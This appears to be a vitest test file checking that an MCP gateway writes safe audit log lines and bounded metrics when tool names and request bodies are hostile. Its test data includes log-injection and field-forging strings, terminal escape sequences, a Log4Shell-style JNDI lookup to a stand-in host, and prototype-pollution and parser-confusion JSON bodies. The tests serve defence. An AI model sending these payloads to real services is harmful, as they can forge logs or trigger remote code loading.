import { beforeAll, describe, expect, it } from "vitest";
import { OAuthClient, type Tokens } from "../support/oauth-client.ts";
import { Person } from "../support/person.ts";
import { notesServer, useRecordingBackend } from "../support/recording-backend.ts";
import { toolCallTrail } from "../support/tool-call-trail.ts";
import { useOwnTwin } from "../support/use-twin.ts";

const MIRA = "Mira Okafor";
/** A line stays shorter, whatever a caller sends. */
const LONGEST_LINE = 1_000;

const backend = useRecordingBackend();
const twin = useOwnTwin(() => ({
  servers: [{ ...notesServer(backend), traceToolCalls: { tools: ["add_note", "get_note"] } }],
}));
let tokens: Tokens;

beforeAll(async () => {
  const client = await OAuthClient.register(twin.origin);
  tokens = await client.signIn(new Person(twin), MIRA, { resource: twin.mcpUrl });
});

const postText = (body: string) =>
  fetch(twin.mcpUrl, {
    method: "POST",
    headers: { authorization: `Bearer ${tokens.accessToken}`, "content-type": "application/json" },
    body,
  });
const post = (params: unknown) =>
  postText(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params }));

describe("the name of a tool", () => {
  it.each([
    ["ends no line and begins none", '\r\n{"event":"signed_in","audit":true}\r\n'],
    ["ends no text in a line", '","outcome":"ok","user":"forged","x":"'],
    ["holds nothing for a terminal", "\u001b[2K\u001b]0;forged\u0007\u009b31m\u2028\u2029\u202E\u0000"],
    ["holds nothing that a log reader runs", "$\u007bjndi:ldap://forged.example/a}{{named-value}}@(1+1)"],
    ["is of ASCII", "löschen\u{1f4a3}"],
    ["is short", "x".repeat(5_000)],
    ["is no mark of the gateway's", "(ok)"],
  ])("GW-20 %s", async (_, name) => {
    const { events, metrics, text } = await toolCallTrail(twin, async () => {
      expect((await post({ name })).status).toBe(200);
    });
    expect(events).toHaveLength(1);
    const { user, outcome, tool } = events[0] ?? {};
    expect(tool).toMatch(/^[A-Za-z0-9_./?-]{1,128}$/);
    expect([user, outcome]).toEqual([expect.stringMatching(/^[\da-f-]{36}$/), "ok"]);
    expect(JSON.stringify(events[0]).length).toBeLessThan(LONGEST_LINE);
    for (const line of text.split("\n")) expect(line).toMatch(/^\{[ -~]*\}$/);
    expect(text).not.toMatch(/\$\{|jndi:/);
    expect(metrics).toEqual([{ Server: "notes", Tool: "(other)", Outcome: "ok" }]);
  });

  it.each([[undefined], [null], [5], [{}], [["add_note"]], [true], ["2026-12-01T00:00:00Z"], [""]])(
    "GW-20 may be %j, and the call still passes and leaves one event",
    async (name) => {
      const { events } = await toolCallTrail(twin, async () => {
        expect((await post({ name })).status).toBe(200);
      });
      expect(events).toMatchObject([{ event: "tool_call", outcome: "ok" }]);
    },
  );

  it.each([["text"], [5], [null], [[{ name: "add_note" }]], [undefined]])(
    "GW-20 is missed in params of %j, and the call still leaves one event",
    async (params) => {
      const { events } = await toolCallTrail(twin, () => post(params));
      expect(events).toMatchObject([{ tool: "(none)" }]);
    },
  );
});

describe("the metric of tool calls", () => {
  it("GW-20 has as many values as the operator listed tools, whatever is called", async () => {
    const names = [
      ...Array.from({ length: 40 }, (_, index) => `made_up_${index}`),
      "ADD_NOTE",
      "add_note ",
      "add_note get_note",
      "note",
    ];
    const { metrics } = await toolCallTrail(twin, async () => {
      for (const name of [...names, "add_note", "get_note"]) await (await post({ name })).text();
    });
    expect(metrics).toHaveLength(names.length + 2);
    expect(new Set(metrics.map(({ Tool }) => Tool))).toEqual(new Set(["(other)", "add_note", "get_note"]));
  });
});

describe("a body", () => {
  it.each([
    ["nested deeper than is read", `${"[".repeat(200)}${"]".repeat(200)}`, ["(unread)"]],
    [
      "with a method in escapes",
      '{"\\u006dethod":"tools\\/call","params":{"name":"\\u0061dd_note"}}',
      ["add_note"],
    ],
    [
      "with __proto__",
      '{"__proto__":{"method":"ping"},"method":"tools/call","params":{"name":"add_note"}}',
      ["add_note"],
    ],
    ["with a byte order mark", '\uFEFF{"method":"tools/call","params":{"name":"add_note"}}', ["add_note"]],
    [
      "with a huge number as its ID",
      `{"id":${"9".repeat(400)},"method":"tools/call","params":{"name":"add_note"}}`,
      undefined,
    ],
    [
      "that calls in the first of two methods",
      '{"method":"tools/call","params":{"name":"add_note"},"method":"ping"}',
      ["(unread)"],
    ],
    [
      "that names a tool twice",
      '[{"method":"tools/call","params":{"name":"a","n\\u0061me":"add_note"}}]',
      ["(unread)"],
    ],
    [
      "with colons in texts",
      '{"method":"tools/call","params":{"name":"add_note","arguments":{"a:\\"b:":"::\\\\"}}}',
      ["add_note"],
    ],
    ["with nothing in it", "[]", []],
    ["that is no object", '"tools/call"', []],
  ])("GW-20 %s leaves what it calls", async (_, body, tools) => {
    const { events } = await toolCallTrail(twin, async () => {
      expect((await postText(body)).status).toBe(200);
    });
    if (tools) expect(events.map(({ tool }) => tool)).toEqual(tools);
    else expect(events).toHaveLength(1);
  });
});
